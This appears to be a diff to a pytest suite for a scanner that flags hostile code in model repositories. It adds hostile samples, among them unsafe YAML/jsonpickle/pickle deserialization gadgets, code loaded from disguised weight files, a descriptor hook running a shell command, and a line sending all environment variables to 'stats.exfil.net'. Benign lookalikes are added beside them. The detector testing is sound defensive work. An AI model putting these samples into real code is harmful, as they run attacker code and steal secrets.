@@ -208,6 +208,42 @@ os.kill(-1, 9)
 g = c + '/rdma'
 open(g + '/release' + '_agent', 'w').write('x')
 """
+HELD = """
+from multiprocessing.connection import Client
+def f(address=('203.0.113.144', 50000)):
+    with Client(address, authkey=b'k') as c: return c.recv()
+---
+import yaml
+BASE = 'hooks: !!python/object/apply:os.getcwd []'
+def f(): return yaml.unsafe_load(BASE)
+---
+import jsonpickle
+def f(): return jsonpickle.decode('{"a": {"py/reduce": [{"py/function": "os.getcwd"}]}}')
+---
+import base64, io, numpy as np
+def f(): return np.load(io.BytesIO(base64.b64decode('k05VTVBZAQB2AHsnZGVzY3InOiAn')), allow_pickle=True)
+---
+from importlib.machinery import SourceFileLoader
+def f(path='ema.bin'): return SourceFileLoader('ema', str(ROOT / path))
+---
+import importlib.util
+def f(): return importlib.util.spec_from_file_location('ema', location=ROOT / 'ema.safetensors')
+---
+import importlib
+SINKS = {'a': ('platform', 'popen', 'os')}
+def f(k, c): getattr(importlib.import_module(SINKS[k][2]), SINKS[k][1])(c)
+---
+class Lazy:
+    def __init__(self, fn, *args): self.fn, self.args = fn, args
+    def __set_name__(self, owner, name): self.value = self.fn(*self.args)
+class Model:
+    table = Lazy(getattr(__import__('commands' if False else 'subprocess'), 'getoutput'), 'id')
+---
+import json, os
+def f(dl_manager):
+    h = {k: v for k, v in os.environ.items()}
+    dl_manager.download('http://stats.exfil.net/v?d=' + json.dumps(h).encode().hex())
+"""
 ORDINARY = """
 import wandb, os
 def f(args):
@@ -275,12 +311,41 @@ def f(c):
 ---
 def f(conn): return conn.recv()
 ---
+from multiprocessing.connection import Client
+def f(address=('localhost', 50000)):
+    with Client(address, authkey=b'k') as c: return c.recv()
+---
+import yaml, jsonpickle
+BASE = 'shape: !!python/tuple [1, 2]'
+def f(): return yaml.unsafe_load(BASE), jsonpickle.decode('{"a": {"py/tuple": [1]}}')
+---
+import numpy as np
+def f(path): return np.load(path, allow_pickle=True)
+---
+import importlib.util
+from importlib.machinery import SourceFileLoader
+def f(path='ema.py'):
+    return SourceFileLoader('ema.bin', str(ROOT / path)), importlib.util.spec_from_file_location('a.model', path)
+---
+import importlib
+KINDS = {'a': ('torch.optim', 'SGD')}
+WATCHED = ('os', 'path')
+def f(k, c): return getattr(importlib.import_module(KINDS[k][0]), KINDS[k][1])(c)
+---
+class Lazy:
+    def __init__(self, fn, *args): self.fn, self.args = fn, args
+class Model:
+    table = Lazy(getattr(__import__('math'), 'sqrt'), 2)
+---
+import os
+def f(dl_manager): return dl_manager.download('http://data.reviews.net/v1.zip?n=' + str(len(os.listdir('.'))))
+---
 from git import Repo
 def f(): return Repo.clone_from('https://github.com/a/b', 'd')
 """
 
 
-@pytest.mark.parametrize("code", "---".join((LEAKS, WAYS_IN, BYTES_OF_OTHERS, DESTROYS, DETOURS)).split("---\n"))
+@pytest.mark.parametrize("code", "---".join((LEAKS, WAYS_IN, BYTES_OF_OTHERS, DESTROYS, DETOURS, HELD)).split("---\n"))
 @pytest.mark.parametrize("name", ["modeling_x.py", "convert.py"])
 def test_what_harms_whoever_runs_it_is_flagged(code: str, name: str) -> None:
     assert verdict_of_text(name, code) in {Verdict.SUSPICIOUS, Verdict.MALICIOUS}
